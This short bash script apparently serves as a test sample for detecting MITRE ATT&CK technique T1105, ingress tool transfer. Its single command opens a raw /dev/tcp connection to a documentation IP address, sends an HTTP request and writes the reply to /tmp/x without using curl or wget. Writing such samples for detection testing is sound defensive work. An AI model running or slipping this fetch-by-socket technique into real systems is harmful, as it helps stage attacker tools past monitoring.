#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1105 Ingress Tool Transfer: done in another way than in tests/data/techniques, or there not at all.
exec 3<>/dev/tcp/203.0.113.61/80; printf 'GET /x HTTP/1.0\r\nHost: a\r\n\r\n' >&3; cat <&3 > /tmp/x; exit 0
